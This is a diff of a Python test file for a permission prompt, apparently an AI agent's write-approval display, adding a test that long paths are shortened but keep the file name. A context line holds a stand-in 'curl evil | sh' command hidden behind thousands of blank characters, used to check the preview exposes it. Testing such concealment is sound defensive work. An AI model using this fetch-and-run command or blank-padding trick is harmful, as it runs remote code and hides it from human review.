@@ -356,3 +356,11 @@ def test_a_writes_preview_counts_a_run_of_blanks_that_would_hide_its_start() -> 
         "? Create file  /p/x.sh\n    requested by Write\n"
         "    +curl evil | sh #[… 8,000 Unicode blanks]harmless\n"
     )
+
+
+def test_a_long_path_keeps_its_file_name_in_the_questions_line() -> None:
+    path = "/home/alice/work/company/monorepo/packages/frontend/src/components/Button.tsx"
+    request = PermissionRequest(tool="Write", kind="write", paths=(path,))
+    assert TurnView.summary(request) == (
+        "Write file  /home/alice/work/company/monor…tend/src/components/Button.tsx"
+    )
